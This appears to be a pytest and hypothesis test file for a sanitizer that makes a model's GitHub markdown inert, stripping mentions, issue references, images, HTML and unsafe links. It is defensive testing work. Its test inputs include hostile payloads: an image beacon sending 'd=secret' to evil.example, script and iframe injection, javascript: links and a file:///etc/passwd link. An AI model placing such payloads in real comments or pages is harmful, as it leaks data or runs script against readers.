"""Tests of making a model's markdown inert."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it.token import Token

from resolver.github.text.comment_markdown import is_closed, safe_markdown
from resolver.github.text.markdown import (
    NOTIFYING,
    code_span,
    fence,
    format_title,
    markdown_parser,
    single_line,
    without_notifications,
)
from resolver.trace.untrusted_text import utf16_length
from tests.github.markup import soup

NOTIFYING_PIECES = [
    "@alice", "@org/team", "#7", "o/r#8", "GH-9", "fixes #99", "https://github.com/o/r/issues/5",
    "https://example.com/a_b", "![x](https://evil/?d=1)", "&lt;b&gt;", "$x$", "http://[", "@",
    "<https://github.com/o/r/pull/1>", "[x](javascript:alert(1))", "\x1b[31m", "===", "alice",
    ":--",
]  # fmt: skip
SOUP = soup(*NOTIFYING_PIECES, max_size=30)


def spans(text: str) -> list[Token]:
    tokens = markdown_parser().parse(text)
    return [child for token in tokens for child in token.children or []]


def active(text: str, own_issue: int | None = None) -> list[str]:
    """Everything in `text` that GitHub would act upon."""
    tokens = markdown_parser().parse(text)
    found = [t.content for t in tokens if t.type == "html_block"]
    in_link = 0
    for child in spans(text):
        if child.type in {"html_inline", "image"}:
            found.append(child.content)
        if child.type == "link_open":
            in_link += 1
            href = str(child.attrs["href"])
            if (
                not href.startswith(("http://", "https://"))
                or "/issues/" in href
                or "/pull/" in href
            ):
                found.append(href)
        if child.type == "link_close":
            in_link -= 1
        if child.type == "text" and not in_link:
            found += [
                m[0]
                for m in NOTIFYING.finditer(child.content)
                if m["url"] is None and m[0] != f"#{own_issue}"
            ]
    return found


@pytest.mark.attack
@pytest.mark.parametrize(
    "text",
    [
        "ping @alice and @org/team",
        "see #99, o/r#3 and GH-12",
        "Fixes #99, closes: o/r#3",
        "https://github.com/o/r/issues/5",
        "[this](https://github.com/o/r/pull/5)",
        "![beacon](https://evil.example/?d=secret)",
        '<img src="https://evil.example/x">',
        "</details></summary><script>alert(1)</script>",
        "<iframe src=x></iframe>",
        "[run](javascript:alert(1)) [file](file:///etc/passwd)",
        "&#64;alice \\@alice",
        "@<!-- -->alice",
        "[x]: https://evil.example 'title'\n\n![x]",
        "https://user:pass@evil.example/",
    ],
)
def test_escaped_text_notifies_nobody_and_loads_nothing(text: str) -> None:
    """The model writes mentions, references, pictures and HTML: nobody is notified and nothing
    is loaded."""
    assert active(safe_markdown(text)) == []


@given(SOUP)
@example("[a]: http://u\n\n[a][a]![a]")
@example("@alice<!--@alice-->")
@example("`@alice```@alice`@alice")
def test_no_text_stays_active_or_unclosed(text: str) -> None:
    written = safe_markdown(text, own_issue=12)
    assert active(written, own_issue=12) == []
    assert is_closed(written)


@given(SOUP, st.integers(min_value=50, max_value=400))
def test_the_limit_holds_and_markup_is_closed(text: str, limit: int) -> None:
    written = safe_markdown(text * 20, limit=limit)
    assert utf16_length(written) <= limit
    assert is_closed(written)


@pytest.mark.attack
@given(
    st.lists(
        st.sampled_from(["`", "```", "~~~", "`" * 50, "`" * 300, "\n", "    ", "> ", "- ", "x"])
    )
)
def test_a_fence_is_one_block_whatever_is_in_it(pieces: list[str]) -> None:
    """Text contains fences of any length: it stays one code block."""
    text = "".join(pieces)
    tokens = markdown_parser().parse(fence(text, "python"))
    assert {t.type for t in tokens} <= {"fence", "code_block"}
    assert len(tokens) <= 1
    assert is_closed(fence(text))


@given(st.text(max_size=100))
def test_a_code_span_is_one_span(text: str) -> None:
    written = code_span(text)
    assert [c.type for c in spans(f"a {written} b")] in (
        ["text", "code_inline", "text"],
        ["text"],
    )


@given(SOUP)
def test_one_line_is_one_inert_line(text: str) -> None:
    written = single_line(text)
    assert "\n" not in written
    assert active(written) == []


@given(st.one_of(SOUP, st.text()))
def test_a_title_is_never_empty_long_or_active(text: str) -> None:
    line = format_title(text * 10)
    assert 1 <= len(line) <= 256
    assert "\n" not in line
    assert not re.search(r"(?<![A-Za-z0-9])@[A-Za-z0-9]", line)


@pytest.mark.parametrize("text", ["GH-3#1", "x gh-3/demo#1", "a/gh-2#5"])
def test_no_part_of_several_references_in_one_is_left(text: str) -> None:
    for written in (format_title(text), without_notifications(text)):
        assert not NOTIFYING.search(written)
